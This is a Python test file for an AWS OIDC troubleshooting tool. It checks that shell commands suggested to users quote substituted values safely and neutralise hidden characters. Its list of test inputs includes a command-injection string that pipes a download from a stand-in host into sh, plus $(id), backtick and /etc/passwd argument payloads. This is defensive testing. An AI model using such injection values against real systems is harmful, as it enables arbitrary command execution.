import re
import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from py_aws_oidc.aws.arn import Role
from py_aws_oidc.aws.errors import Refused
from py_aws_oidc.explain.causes import CAUSES, Cause
from py_aws_oidc.explain.evidence import Evidence
from py_aws_oidc.explain.report import words
from py_aws_oidc.explain.templates import argument, fill

PROGRAMS = ("aws ", "gh ", "python3 ", "cd ", "curl ")
TEXTS = ("title", "why", "check", "fix")
NASTY = (
    "x;curl${IFS}-s${IFS}evil.example|sh;#",
    "$(id)",
    "`id`",
    "a'b",
    'a"b',
    "a\\",
    "a b",
    "a&b<c>d",
    "!!",
    "~",
    "-x",
    "--claims=/etc/passwd",
    "#",
    "*",
    "",
)
HIDDEN = ("a\nb", "a\rb", "a\u202eb", "a\x1b[31m", "a\u200b", "a\u00ad", "a\u2028", "a\x00", "a\u3164", "x" * 5_000)


def texts_of(cause: Cause) -> list[str]:
    return [getattr(cause, name) for name in TEXTS]


def commands(cause: Cause, values: dict[str, str]) -> list[str]:
    """The commands that a cause tells a person to run, with these values."""
    found: list[str] = []
    for text in texts_of(cause):
        fill(text, values, as_code=lambda code: found.append(code) or "")
    return [code for code in found if code.startswith(PROGRAMS)]


def names() -> list[str]:
    refused = Refused("AssumeRole", "AccessDenied", "", 403)
    return [*words(Evidence(refused, Role.parse("arn:aws:iam::123456789012:role/deploy"), "a", 1))]


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
def test_a_command_stands_between_backticks(cause):
    for text in texts_of(cause):
        assert text.count("`") % 2 == 0
        assert not re.search(r"\b(?:aws|gh|python3|curl) [a-z-]+ ", " ".join(text.split("`")[::2])), text


@pytest.mark.parametrize("value", NASTY)
@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
def test_a_value_adds_no_word_to_a_command(cause, value):
    plain = commands(cause, {name: f"@{name}@" for name in names()})
    nasty = commands(cause, dict.fromkeys(names(), value))

    for expected, command in zip(map(shlex.split, plain), nasty, strict=True):
        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        assert [*lexer] == shlex.split(command), "an operator of the shell stands outside of quotes"
        assert shlex.split(command) == [re.sub("@[a-z_]+@", lambda _: value, word) for word in expected]


@pytest.mark.parametrize("value", HIDDEN, ids=lambda value: ascii(value)[:20])
@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.name)
def test_a_value_that_is_not_for_copying_is_only_named(cause, value):
    plain = commands(cause, {name: f"@{name}@" for name in names()})
    hidden = commands(cause, dict.fromkeys(names(), value))

    assert hidden == [re.sub("@([a-z_]+)@", lambda found: found[1].upper(), command) for command in plain]


@given(st.text())
def test_a_value_is_one_word(value):
    assert shlex.split(argument("sub", value)) in ([value], ["SUB"])


@pytest.mark.parametrize("value", NASTY)
def test_a_real_shell_takes_the_value_as_it_is(value):
    command = fill("printf %s $sub", {"sub": value})
    assert command == f"printf %s {value}"  # without backticks it is no command

    command = fill("`printf %s $sub`", {"sub": value}, as_code=str)
    assert subprocess.run(["/bin/sh", "-c", command], capture_output=True, check=True, text=True).stdout == value


def test_a_value_in_a_sentence_is_shown_on_its_line():
    assert fill("is $sub.", {"sub": "a\n- aud: b\u202e"}) == r"is a\n- aud: b\u202e."


def test_a_command_is_written_as_it_is_asked_for():
    assert fill("run `gh api $sub`.", {"sub": "x y"}) == "run `gh api 'x y'`."
    assert fill("run `gh api $sub`.", {"sub": "x"}, as_code="<{}>".format) == "run <gh api x>."
